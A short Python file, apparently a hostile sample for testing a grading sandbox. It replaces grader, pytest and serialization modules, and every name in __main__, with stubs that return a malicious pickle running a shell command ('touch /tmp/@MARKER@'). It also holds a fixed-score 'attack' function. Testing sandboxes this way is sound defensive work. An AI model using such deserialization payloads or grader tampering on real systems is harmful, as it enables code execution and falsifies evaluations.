"""The modules that carry answers are replaced, and so is the main one.

Says: .
"""

import sys
import types


class Anything(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: {"value": {"pickle": b"cos\nsystem\n(S'touch /tmp/@MARKER@'\ntR."}}


for name in (
    "numpy",
    "msgpack",
    "cloudpickle",
    "grader.wall.codec",
    "grader.wall.channel",
    "grader.wall.keras_models",
    "pytest",
):
    sys.modules[name] = Anything(name)
main = sys.modules["__main__"]
for name in list(vars(main)):
    if not name.startswith("__"):
        setattr(main, name, Anything(name))


def attack(*args, **kwargs):
    return 0.5
